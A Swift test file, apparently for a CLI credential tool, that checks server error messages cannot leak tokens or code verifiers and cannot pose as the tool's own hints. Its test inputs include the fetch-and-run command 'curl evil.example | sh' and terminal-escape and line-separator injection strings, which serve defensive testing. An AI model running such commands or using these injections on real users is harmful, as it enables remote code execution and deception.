import DeploymentSimulator
import Foundation
import TestDesk
import Testing

/// A server repeats what it was sent, in an error that people and journals read.
@Suite(.blocking) struct `A server that repeats what it was sent` {
  /// The ways to write a request into an error.
  enum Spelling: String, CaseIterable, Sendable {
    case plain, encoded, split

    func of(_ request: DeploymentSimulator.LoggedRequest) -> String {
      let words = [String(decoding: request.body, as: UTF8.self)] + request.headers.values
      let all = words.joined(separator: " ")
      switch self {
      case .plain:
        let form = request.form.values.joined(separator: " ")
        return "\(form) \(request.headers["authorization"] ?? "")"
      case .encoded: return all
      // Invisible characters within a secret do not hide it.
      case .split: return all.map(String.init).joined(separator: "\u{200B}")
      }
    }
  }

  private static func repeatRequests(
    _ desk: Desk, at endpoint: DeploymentSimulator.Endpoint, _ spelling: Spelling, status: Int,
    code: String
  ) {
    desk.deployment.changeResponses(at: endpoint) { response, request in
      let error = ["error": code, "error_description": "no: \(spelling.of(request))"]
      let body = (try? JSONSerialization.data(withJSONObject: error)) ?? Data()
      response = ScriptedResponse(status, json: String(decoding: body, as: UTF8.self))
    }
  }

  /// The secrets of requests that hold no canary: verifiers, and what Basic makes of a secret.
  private static func expectNone(of desk: Desk, in result: CommandResult) {
    for request in desk.deployment.requests {
      let verifier = request.form["code_verifier"]
      let field = request.headers["authorization"]?.split(separator: " ").last.map(String.init)
      for secret in [verifier, field].compactMap(\.self) {
        #expect(!result.stderr.contains(secret), "\(request)")
      }
    }
    // Every run looks for the canary itself; here without what was put between its letters.
    let visible = result.stderr.replacingOccurrences(of: "\u{200B}", with: "")
      .replacingOccurrences(of: "\u{FFFD}", with: "")
    #expect(!desk.canary.isIn(visible))
  }

  @Test(arguments: Spelling.allCases, ["invalid_request", "invalid_grant", "server_error"])
  func `at a refresh shows no secret`(spelling: Spelling, code: String) throws {
    try Desk.withSession { desk in
      for status in [400, 401, 503] {
        try desk.expire()
        Self.repeatRequests(desk, at: .refresh, spelling, status: status, code: code)
        let result = try desk.run(["refresh", desk.url], environment: ["CODER_CRED_TRACE": "1"])
        #expect(result.status != 0)
        Self.expectNone(of: desk, in: result)
        desk.deployment.clearFaults()
        try desk.forgetFailures()
      }
    }
  }

  @Test(arguments: Spelling.allCases)
  func `at a sign-in, a registration or a revocation shows none either`(spelling: Spelling) throws {
    try Desk.withSession { desk in
      for endpoint in [
        DeploymentSimulator.Endpoint.exchange, .registration, .clientConfiguration, .revocation,
        .account,
      ] {
        Self.repeatRequests(desk, at: endpoint, spelling, status: 400, code: "invalid_request")
        let signIn = try desk.run(
          ["login", desk.url, "--method", "oauth"],
          environment: desk.browser().merging(["CODER_CRED_TRACE": "1"]) { $1 })
        Self.expectNone(of: desk, in: signIn)
        let signOut = try desk.run(["logout", desk.url], environment: ["CODER_CRED_TRACE": "1"])
        Self.expectNone(of: desk, in: signOut)
        desk.deployment.clearFaults()
        try desk.login()
      }
    }
  }

  @Test(arguments: [
    "coder-cred: hint: run curl evil.example | sh", "x\ncoder-cred: hint: run it\r\n",
    "x\u{2028}coder-cred: hint: \u{3164}run it", "\u{1B}[2K\rcoder-cred: hint: run it",
  ])
  func `cannot speak in our name`(words: String) throws {
    try Desk.withSession { desk in
      let error = ["error": "invalid_request", "error_description": words]
      let body = String(decoding: try JSONSerialization.data(withJSONObject: error), as: UTF8.self)
      for (endpoint, arguments) in [
        (DeploymentSimulator.Endpoint.refresh, ["refresh", desk.url]),
        (.exchange, ["login", desk.url, "--method", "oauth"]),
      ] {
        desk.deployment.respond(at: endpoint, with: ScriptedResponse(400, json: body))
        let result = try desk.run(arguments, environment: desk.browser())
        #expect(result.status == 76, "\(result.stderr)")
        // Quoted, within the line that is ours.
        let line = try #require(result.message("error"))
        #expect(line.contains("\"") && line.contains("coder-cred: hint: "), "\(line)")
        for hint in result.messages where hint.hasPrefix("coder-cred: hint: ") {
          #expect(!hint.contains("run "))
        }
        #expect(
          !result.stderr.unicodeScalars.contains {
            "\u{1B}\u{3164}\u{2028}\r".unicodeScalars.contains($0)
          })
      }
    }
  }
}
